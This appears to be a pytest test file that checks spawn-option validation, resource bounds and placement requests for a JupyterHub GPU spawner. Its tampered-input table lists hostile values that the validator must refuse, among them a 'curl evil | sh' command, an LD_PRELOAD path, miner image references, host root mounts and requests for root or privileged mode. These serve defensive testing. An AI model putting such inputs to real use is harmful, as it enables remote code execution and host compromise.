# ruff: noqa: E501  (the tampered-input table reads best as one case per line)
"""Server-side validation of spawn options (form and REST API), resource bounds, and
the placement request built from validated options."""

from __future__ import annotations

import dataclasses
import math
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

import pytest

from jupyterhub_gpu.core.catalog import Catalog
from jupyterhub_gpu.core.form import (
    ModelAvailability,
    ResourcePolicy,
    SpawnOptions,
    UserBounds,
    gpu_model_availability,
    options_from_form,
    placement_request,
    policy_from_config,
    resolve_bounds,
    resolve_entry,
    resource_limits,
    validate_options,
)
from jupyterhub_gpu.core.inventory import NodeState
from jupyterhub_gpu.core.saving.data import SavedImage
from jupyterhub_gpu.core.saving.entries import saved_entries, with_saved
from jupyterhub_gpu.core.snapshot import ClusterSnapshot
from jupyterhub_gpu.edges.adminfiles import load_inventory_file
from jupyterhub_gpu.errors import ConfigError, InvalidRequest
from jupyterhub_gpu.wire.catalog_file import parse_catalog

pytestmark = pytest.mark.unit

CLUSTER = Path(__file__).resolve().parents[1] / "data" / "cluster-hetero.yaml"
RTX = "NVIDIA GeForce RTX 3090"
A100 = "NVIDIA A100-SXM4-80GB"


def _image(slug: str, cuda: str | None, **extra: Any) -> dict[str, Any]:
    entry = {
        "slug": slug,
        "display_name": slug,
        "framework": "pytorch",
        "framework_version": "2.3.1",
        "cuda_version": cuda,
        "image": f"jupyterhub-gpu/{slug}:1",
    }
    return {**entry, **extra}


@pytest.fixture(scope="module")
def catalog() -> Catalog:
    return parse_catalog(
        {
            "allowed_image_patterns": ["registry.example.org/lab/*:*"],
            "images": [
                _image("pytorch-2.3-cuda12.1", "12.1"),
                _image("chainer-7.8-cuda11.8", "11.8"),
                _image("secret-cuda12.4", "12.4", groups=["secret-lab"]),
                _image("python-cpu", None),
            ],
        },
        "test-catalog.yaml",
    )


@pytest.fixture(scope="module")
def models() -> tuple[ModelAvailability, ...]:
    nodes = tuple(NodeState(n) for n in load_inventory_file(CLUSTER))
    return gpu_model_availability(
        ClusterSnapshot(nodes, allocations={"GPU-aaaaaaaa-0000-4000-8000-000000000000": "bob/"})
    )


@pytest.fixture(scope="module")
def policy() -> ResourcePolicy:
    return policy_from_config(
        {"max_gpus": 2, "max_cpu": 4, "max_mem_gib": 16, "allowed_models": ["*RTX*", "*TITAN*"]},
        {"ml-lab": {"max_gpus": 4, "allowed_models": ["*A100*"], "max_mem_gib": 64}},
    )


@pytest.fixture(scope="module")
def bounds(policy: ResourcePolicy) -> UserBounds:
    return resolve_bounds(policy, ["students"])


def check(
    raw: Any, catalog: Catalog, bounds: UserBounds, models: tuple[ModelAvailability, ...]
) -> SpawnOptions:
    return validate_options(raw, catalog=catalog, bounds=bounds, models=models)


# ---------------------------------------------------------------- happy paths


def test_form_happy_path(catalog: Catalog, bounds: UserBounds, models: Any) -> None:
    form = {
        "_xsrf": ["token"],
        "image": ["pytorch-2.3-cuda12.1"],
        "gpu_count": ["2"],
        "gpu_model": [RTX],
        "min_gpu_memory_gib": ["16"],
        "cpu": ["3.5"],
        "mem_gib": [" 12 "],
    }
    raw = options_from_form(form)
    assert raw == {
        "image": "pytorch-2.3-cuda12.1",
        "gpu_count": 2,
        "gpu_model": RTX,
        "min_gpu_memory_gib": 16.0,
        "cpu": 3.5,
        "mem_gib": 12.0,
    }
    assert check(raw, catalog, bounds, models) == SpawnOptions(
        "pytorch-2.3-cuda12.1", 2, RTX, 16.0, 3.5, 12.0
    )


def test_api_happy_path_and_round_trip(catalog: Catalog, bounds: UserBounds, models: Any) -> None:
    raw = {
        "image": "chainer-7.8-cuda11.8",
        "gpu_count": 1,
        "gpu_model": "TITAN X (Pascal)",
        "cpu": 2,
    }
    opts = check(raw, catalog, bounds, models)
    assert opts.gpu_model == "NVIDIA TITAN X (Pascal)"  # short label -> probe's full name
    assert opts.mem_gib == 8.0  # the default
    again = check(opts.as_user_options(), catalog, bounds, models)
    assert again == opts
    assert resolve_entry(catalog, opts).slug == "chainer-7.8-cuda11.8"


def test_empty_options_take_defaults(catalog: Catalog, bounds: UserBounds, models: Any) -> None:
    for raw in ({}, None, options_from_form({"gpu_count": [""], "cpu": [""]})):
        assert check(raw, catalog, bounds, models) == SpawnOptions(
            "pytorch-2.3-cuda12.1", 1, None, 0.0, 2.0, 8.0
        )


def test_any_model_and_zero_gpus_normalise(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    opts = check({"gpu_model": "ANY", "gpu_count": "2"}, catalog, bounds, models)
    assert opts.gpu_model is None and opts.gpu_count == 2
    zero = check(
        {"gpu_count": 0, "gpu_model": RTX, "min_gpu_memory_gib": 8}, catalog, bounds, models
    )
    assert (zero.gpu_count, zero.gpu_model, zero.min_gpu_memory_gib) == (0, None, 0.0)
    cpu = check({"image": "python-cpu"}, catalog, bounds, models)
    assert cpu.gpu_count == 0  # a CPU-only image defaults to no GPU
    assert check({"gpu_count": 2.0}, catalog, bounds, models).gpu_count == 2


def test_group_bounds_raise_the_ceiling(
    catalog: Catalog, policy: ResourcePolicy, models: Any
) -> None:
    lab = resolve_bounds(policy, ["students", "ml-lab"])
    assert (lab.max_gpus, lab.max_mem_gib, lab.max_cpu) == (4, 64.0, 4.0)
    opts = check({"gpu_count": 4, "gpu_model": A100, "mem_gib": 48}, catalog, lab, models)
    assert opts.gpu_model == A100 and opts.gpu_count == 4
    secret = resolve_bounds(policy, ["secret-lab"])
    assert check({"image": "secret-cuda12.4"}, catalog, secret, models).image == "secret-cuda12.4"


def test_admin_pattern_allows_a_custom_image(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    ref = "registry.example.org/lab/custom:2024"
    opts = check({"image": ref, "gpu_count": 1}, catalog, bounds, models)
    assert opts.custom_image and opts.image == ref
    entry = resolve_entry(catalog, opts)
    assert entry.custom and entry.image == ref
    restricted = dataclasses.replace(bounds, allowed_images=frozenset({"pytorch-*"}))
    with pytest.raises(InvalidRequest, match="not in the image catalog"):
        check({"image": ref}, catalog, restricted, models)


# ---------------------------------------------------------------- tampered input

TAMPERED: list[tuple[str, Any, str]] = [
    # (how it arrives, raw options, what the one sentence must say)
    ("api", {"image": "docker.io/evil/miner:latest"}, "The image 'docker.io/evil/miner:latest' is not in the image catalog"),
    ("api", {"image": "jupyterhub-gpu/pytorch-2.3-cuda12.1:1"}, "is not in the image catalog"),
    ("form", {"image": ["registry.example.org/lab/x"]}, "is not in the image catalog"),
    ("api", {"image": "secret-cuda12.4"}, "The image 'secret-cuda12.4' is not available to your groups"),
    ("api", {"image": {"slug": "python-cpu"}}, "The option 'image' must be a single value"),
    ("api", {"image": 42}, "The image must be a catalog name such as 'pytorch-2.3-cuda12.1', got 42"),
    ("api", {"gpu_count": -1}, "The GPU count must be a whole number from 0 to 2; got -1"),
    ("form", {"gpu_count": ["-1"]}, "The GPU count must be a whole number from 0 to 2; got -1"),
    ("api", {"gpu_count": 999}, "You may use at most 2 GPU(s) per server; you asked for 999"),
    ("form", {"gpu_count": ["999"]}, "You may use at most 2 GPU(s) per server; you asked for 999"),
    ("api", {"gpu_count": 3}, "at most 2 GPU(s)"),
    ("form", {"gpu_count": ["abc"]}, "whole number from 0 to 2; got 'abc'"),
    ("api", {"gpu_count": 1.5}, "whole number from 0 to 2; got 1.5"),
    ("form", {"gpu_count": ["1.5"]}, "whole number from 0 to 2; got '1.5'"),
    ("api", {"gpu_count": True}, "whole number from 0 to 2; got True"),
    ("api", {"gpu_count": "1" * 400}, "whole number from 0 to 2"),
    ("form", {"gpu_count": ["1", "2"]}, "The option 'gpu_count' must be a single value"),
    ("api", {"image": "python-cpu", "gpu_count": 1}, "is CPU-only; choose 0 GPUs"),
    ("api", {"gpu_model": "NVIDIA H100 80GB HBM3"}, "Unknown GPU model 'NVIDIA H100 80GB HBM3'; choose 'any' or one of: RTX 2070"),
    ("api", {"gpu_model": A100}, "Your groups may not use A100-SXM4-80GB GPUs"),
    ("api", {"gpu_model": 3090}, "The GPU model must be a model name or 'any'"),
    ("api", {"min_gpu_memory_gib": 200}, "No GPU you may use has 200 GiB of memory; the largest has 24 GiB"),
    ("api", {"gpu_model": RTX, "min_gpu_memory_gib": 32}, "The RTX 3090 has 24 GiB of memory; you asked for at least 32 GiB"),
    ("api", {"min_gpu_memory_gib": -5}, "minimum GPU memory must be a number of GiB, 0 or more; got -5"),
    ("api", {"mem_gib": 1000}, "You may use at most 16 GiB of memory per server; you asked for 1000"),
    ("form", {"mem_gib": ["-1"]}, "The memory in GiB must be a number from 0.5 to 16; got -1"),
    ("form", {"mem_gib": ["nan"]}, "memory in GiB must be a number from 0.5 to 16; got 'nan'"),
    ("api", {"mem_gib": math.inf}, "memory in GiB must be a number from 0.5 to 16; got inf"),
    ("form", {"cpu": ["inf"]}, "The CPU count must be a number from 0.5 to 4; got 'inf'"),
    ("api", {"cpu": math.nan}, "The CPU count must be a number from 0.5 to 4; got nan"),
    ("api", {"cpu": "1e309"}, "The CPU count must be a number from 0.5 to 4"),
    ("api", {"cpu": 64}, "You may use at most 4 CPUs per server; you asked for 64"),
    ("api", {"cpu": 0}, "CPU count must be a number from 0.5 to 4; got 0"),
    ("api", {"foo": 1}, "Unknown option 'foo'; the allowed options are image, gpu_count, gpu_model, min_gpu_memory_gib, cpu, mem_gib, charge_group and gpu_share"),
    ("api", {"group": "ml-lab"}, "Unknown option 'group'; use 'charge_group' instead"),
    ("form", {"account": ["ml-lab"]}, "Unknown option 'account'; use 'charge_group' instead"),
    ("api", {"groups": ["wheel"]}, "Choosing the user or privileges ('groups') is not allowed"),
    ("api", {"group_id": 0}, "Choosing the user or privileges ('group_id') is not allowed"),
    ("api", {"charge_group": "ml-lab"}, "You have no group to charge, so you can't choose 'ml-lab'"),
    ("form", {"image_file": [b"x"]}, "Image references ('image_file') are not accepted"),
    ("api", {"environment": {"LD_PRELOAD": "/tmp/x.so"}}, "Setting environment variables ('environment') is not allowed"),
    ("api", {"env": {"NVIDIA_VISIBLE_DEVICES": "all"}}, "Setting environment variables ('env') is not allowed"),
    ("form", {"NVIDIA_VISIBLE_DEVICES": ["all"]}, "Setting environment variables ('NVIDIA_VISIBLE_DEVICES')"),
    ("api", {"volumes": {"/": {"bind": "/host"}}}, "Mounting volumes or choosing devices ('volumes') is not allowed"),
    ("api", {"mounts": ["/etc:/etc"]}, "Mounting volumes or choosing devices ('mounts')"),
    ("api", {"device_requests": [{"Count": -1}]}, "Mounting volumes or choosing devices ('device_requests')"),
    ("api", {"user": "root"}, "Choosing the user or privileges ('user') is not allowed: your server always runs as your own account"),
    ("api", {"uid": 0}, "Choosing the user or privileges ('uid')"),
    ("api", {"privileged": True}, "Choosing the user or privileges ('privileged')"),
    ("api", {"cmd": ["bash", "-c", "curl evil | sh"]}, "Setting the command or its arguments ('cmd') is not allowed"),
    ("api", {"args": ["--allow-root"]}, "Setting the command or its arguments ('args')"),
    ("api", {"image_ref": "docker.io/evil/miner:1"}, "Image references ('image_ref') are not accepted"),
    ("api", {"docker_image": "x:1"}, "Image references ('docker_image') are not accepted"),
    ("api", {"extra_host_config": {"privileged": True}}, "Container settings ('extra_host_config') are not allowed"),
    ("api", {"network_mode": "host"}, "Container settings ('network_mode') are not allowed"),
    ("api", ["image", "python-cpu"], "Spawn options must be a JSON object"),
    ("api", {"gpus": 1}, "Unknown option 'gpus'; use 'gpu_count' instead"),
    ("api", {"cuda_version": "12.1"}, "Unknown option 'cuda_version'; the allowed options are"),
]  # fmt: skip


@pytest.mark.parametrize(("via", "raw", "expected"), TAMPERED)
def test_tampered_options_are_refused_with_one_sentence(
    via: str, raw: Any, expected: str, catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    if via == "form":
        raw = options_from_form(raw)
    with pytest.raises(InvalidRequest) as info:
        check(raw, catalog, bounds, models)
    message = str(info.value)
    assert expected in message
    assert message[0].isupper() and message.endswith(".") and "\n" not in message
    assert len(message) < 300
    assert info.value.status_code == 400


def test_the_table_is_big_enough() -> None:
    assert len(TAMPERED) >= 20


# ---------------------------------------------------------------- the charge group

LAB = ("ml-lab", "vision")  # the groups the user may charge, the default first
CHARGE: list[tuple[str, Any, str | None, str]] = [
    # (how it arrives, the charge_group value (None: left out), the group charged, or
    # the sentence that refuses it)
    ("api", None, "ml-lab", ""),  # previous user_options without the key: the default
    ("api", "vision", "vision", ""),
    ("api", " vision ", "vision", ""),
    ("api", "", "ml-lab", ""),
    ("form", ["vision"], "vision", ""),
    ("form", [""], "ml-lab", ""),  # an empty field: the default
    ("api", "ops", None, "You are not a member of group 'ops'; choose 'ml-lab' or 'vision'."),
    ("api", "users", None, "Servers can't be charged to group 'users' (the site sets no GPU policy for it); choose 'ml-lab' or 'vision'."),
    ("api", "ML-LAB", None, "You are not a member of group 'ML-LAB'; choose 'ml-lab' or 'vision'."),
    ("api", 42, None, "The charge group must be a group name such as 'ml-lab', got 42."),
    ("api", ["ml-lab"], None, "The option 'charge_group' must be a single value, got ['ml-lab']."),
    ("form", ["ml-lab", "vision"], None, "The option 'charge_group' must be a single value"),
]  # fmt: skip


@pytest.mark.parametrize(("via", "value", "charged", "refused"), CHARGE)
def test_the_charge_group_is_one_the_user_may_charge(
    via: str,
    value: Any,
    charged: str | None,
    refused: str,
    catalog: Catalog,
    policy: ResourcePolicy,
    models: Any,
) -> None:
    """A user in ml-lab, vision and users (not configured) may charge ml-lab or vision;
    a group they are not in, or one the site does not configure, is refused naming both."""
    bounds = resolve_bounds(policy, ["ml-lab", "vision", "users"])
    raw: dict[str, Any] = {"gpu_count": 1} if value is None else {"charge_group": value}
    if via == "form":
        raw = options_from_form(raw)
    if refused:
        with pytest.raises(InvalidRequest) as info:
            validate_options(raw, catalog=catalog, bounds=bounds, models=models, charge_groups=LAB)
        assert refused in str(info.value) and info.value.status_code == 400
        return
    opts = validate_options(raw, catalog=catalog, bounds=bounds, models=models, charge_groups=LAB)
    assert opts.charge_group == charged
    assert opts.as_user_options()["charge_group"] == charged
    again = validate_options(
        opts.as_user_options(), catalog=catalog, bounds=bounds, models=models, charge_groups=LAB
    )
    assert again == opts


def test_a_user_with_nothing_to_choose_keeps_the_old_options(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    """No chargeable group (the default of validate_options): nothing is recorded, and
    user_options stay what they were (no charge_group key)."""
    opts = check({"gpu_count": 1}, catalog, bounds, models)
    assert opts.charge_group is None and "charge_group" not in opts.as_user_options()
    one = validate_options({}, catalog=catalog, bounds=bounds, models=models, charge_groups=["ml"])
    assert one.charge_group == "ml"


def test_smuggled_keys_win_over_valid_ones(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    raw = {"image": "pytorch-2.3-cuda12.1", "gpu_count": 1, "Env": {"A": "1"}}
    with pytest.raises(InvalidRequest, match="environment variables"):
        check(raw, catalog, bounds, models)


def test_options_from_form_only_converts(catalog: Catalog) -> None:
    raw = options_from_form(
        {"gpu_count": ["x"], "cpu": ["2"], "gpu_model": ["any"], "mem_gib": ["1", "2"], "z": ["1"]}
    )
    assert raw == {
        "gpu_count": "x",
        "cpu": 2.0,
        "gpu_model": "any",
        "mem_gib": ["1", "2"],
        "z": "1",
    }


# ---------------------------------------------------------------- placement request


def test_placement_request_any_model_means_allowed_models(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    names = [m.model for m in models]
    opts = check({"gpu_count": 1, "min_gpu_memory_gib": 10.5}, catalog, bounds, models)
    req = placement_request(opts, resolve_entry(catalog, opts), bounds, names)
    assert req.gpu_count == 1 and req.min_memory_mib == 10752
    assert req.allowed_models == {
        RTX,
        "NVIDIA GeForce RTX 2080 Ti",
        "NVIDIA GeForce RTX 2070",
        "NVIDIA TITAN X (Pascal)",
    }
    assert req.min_driver_version == "525.60.13" and req.min_compute_capability == (5, 0)
    pinned = check({"gpu_count": 1, "gpu_model": RTX}, catalog, bounds, models)
    assert placement_request(
        pinned, resolve_entry(catalog, pinned), bounds, names
    ).allowed_models == {RTX}
    free = resolve_bounds(ResourcePolicy(), [])
    assert placement_request(opts, resolve_entry(catalog, opts), free, names).allowed_models is None


def test_placement_request_without_gpus_has_no_image_constraints(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    opts = check({"gpu_count": 0}, catalog, bounds, models)
    req = placement_request(opts, resolve_entry(catalog, opts), bounds, [])
    assert req.gpu_count == 0 and req.min_driver_version is None
    assert req.min_compute_capability is None and req.max_compute_capability is None


def test_placement_request_names_the_image_a_saved_one_by_its_digest(
    catalog: Catalog, bounds: UserBounds, models: Any
) -> None:
    """Placement's locality gets the identities of what the spawn runs: the catalog
    entry's reference, or a saved image's repo@digest (not its saved: slug or tag)."""
    opts = check({"gpu_count": 1, "image": "pytorch-2.3-cuda12.1"}, catalog, bounds, models)
    req = placement_request(opts, resolve_entry(catalog, opts), bounds, [])
    assert req.image == {"docker.io/jupyterhub-gpu/pytorch-2.3-cuda12.1:1"}
    cpu = check({"gpu_count": 0, "image": "python-cpu"}, catalog, bounds, models)
    cpu_req = placement_request(cpu, resolve_entry(catalog, cpu), bounds, [])
    assert cpu_req.image == {"docker.io/jupyterhub-gpu/python-cpu:1"}
    digest = "sha256:" + "ab" * 32
    saved = SavedImage(
        "alice",
        "env",
        "pytorch-2.3-cuda12.1",
        "jupyterhub-gpu/pytorch-2.3-cuda12.1:1",
        "localhost:5000/jupyterhub-gpu/saved/alice/env:1",
        (),
        0,
        datetime.now(timezone.utc),
        digest=digest,
    )
    full = with_saved(catalog, saved_entries(catalog, [saved], "alice", [])[0])
    mine = check({"gpu_count": 1, "image": "saved:alice/env"}, full, bounds, models)
    mine_req = placement_request(mine, resolve_entry(full, mine), bounds, [])
    assert mine_req.image == {f"localhost:5000/jupyterhub-gpu/saved/alice/env@{digest}"}


# ---------------------------------------------------------------- resources


def test_resolve_bounds_defaults_and_groups() -> None:
    policy = policy_from_config(
        {"max_gpus": 2, "default_gpu_count": 2, "default_cpu": 3},
        {
            "students": {"max_gpus": 1, "max_cpu": 2},
            "staff": {"max_gpus": 3, "allowed_models": ["*A100*"]},
            "any-gpu": {"allowed_models": ["*"]},
        },
    )
    plain = resolve_bounds(policy, [])
    assert (plain.max_gpus, plain.default_gpu_count, plain.default_cpu) == (2, 2, 3.0)
    student = resolve_bounds(policy, ["students"])
    assert (student.max_gpus, student.default_gpu_count, student.default_cpu) == (1, 1, 2.0)
    both = resolve_bounds(policy, ["students", "staff"])
    assert both.max_gpus == 3 and both.max_cpu == 2.0
    assert both.model_allowed(A100) and not both.model_allowed(RTX)
    assert resolve_bounds(policy, ["staff", "any-gpu"]).model_allowed(RTX)
    assert plain.model_allowed(RTX)  # no pattern: any model


def test_resource_limits_shm_and_pids() -> None:
    limits = resource_limits(2.0, 8.0, ResourcePolicy())
    assert limits.mem_bytes == 8 * 1024**3 and limits.shm_bytes == 4 * 1024**3
    assert limits.pids_limit == 4096 and limits.cpu == 2.0
    fixed = resource_limits(1.0, 1.0, ResourcePolicy(shm_size_gib=2.0))
    assert fixed.shm_bytes == 1024**3  # never above the memory limit


@pytest.mark.parametrize(
    ("defaults", "groups", "expected"),
    [
        ({"max_gpu": 1}, None, "resource_defaults: unknown key 'max_gpu'"),
        ({"max_gpus": -1}, None, "resource_defaults.max_gpus: must be an integer >= 0"),
        ({"max_cpu": "4"}, None, "resource_defaults.max_cpu: must be a number > 0"),
        ({"max_mem_gib": math.nan}, None, "max_mem_gib: must be a number > 0"),
        ({"default_cpu": 8}, None, "resource_defaults.default_cpu: 8.0 is above max_cpu 4.0"),
        ({"allowed_models": "RTX"}, None, "allowed_models: must be a list of patterns"),
        ({"pids_limit": 10}, None, "pids_limit: must be at least 64"),
        (None, {"ml": {"max_gpu": 2}}, "group_bounds['ml']: unknown key(s) ['max_gpu']"),
        (None, {"ml": 4}, "group_bounds['ml']: must be a mapping"),
        (None, {"ml": {"max_gpus": 1.5}}, "group_bounds['ml'].max_gpus: must be an integer"),
    ],
)
def test_policy_config_errors_name_the_key(defaults: Any, groups: Any, expected: str) -> None:
    with pytest.raises(ConfigError) as info:
        policy_from_config(defaults, groups)
    assert expected in str(info.value)
    assert str(info.value).startswith("GPUDockerSpawner.")
